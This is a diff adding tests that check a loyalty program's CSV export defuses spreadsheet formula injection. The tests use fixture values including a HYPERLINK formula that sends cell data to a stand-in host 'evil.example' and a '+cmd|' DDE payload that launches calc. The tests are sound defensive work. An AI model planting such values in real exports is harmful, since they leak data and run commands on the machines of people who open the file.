@@ -213,6 +213,43 @@ def test_export_defuses_spreadsheet_formulas(owner_client, merchant_a):
     assert "'=HYPERLINK(1)" in content
 
 
+def test_export_defuses_formulas_in_every_text_column(owner_client, merchant_a, owner_a):
+    from loyalty.points.program import save_tier
+
+    bronze = merchant_a.tiers.order_by("threshold").first()
+    save_tier(
+        merchant=merchant_a,
+        actor=owner_a,
+        tier=bronze,
+        name='=HYPERLINK("https://evil.example/?"&A2,"Gold")',
+        threshold=bronze.threshold,
+        multiplier=bronze.multiplier,
+    )
+    enrol_member(
+        merchant=merchant_a,
+        email="x@example.com",
+        first_name="+cmd|' /C calc'!A0",
+        last_name="-2+3",
+    )
+
+    content = b"".join(owner_client.get(LIST, {"export": "csv"}).streaming_content).decode()
+    row = next(csv.DictReader(io.StringIO(content)))
+
+    assert row["tier"] == """'=HYPERLINK("https://evil.example/?"&A2,"Gold")"""
+    assert row["first_name"] == "'+cmd|' /C calc'!A0"
+    assert row["last_name"] == "'-2+3"
+    for name, value in row.items():
+        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), name
+
+
+def test_export_keeps_a_phone_number_as_it_is(owner_client, merchant_a):
+    enrol_member(merchant=merchant_a, phone="+40721234567")
+
+    content = b"".join(owner_client.get(LIST, {"export": "csv"}).streaming_content).decode()
+
+    assert next(csv.DictReader(io.StringIO(content)))["phone"] == "+40721234567"
+
+
 def test_the_export_link_keeps_the_filters(owner_client, ana):
     html = owner_client.get(LIST, {"q": "ana", "sort": "name"}).content.decode()
     assert 'href="?q=ana&amp;sort=name&amp;export=csv"' in html
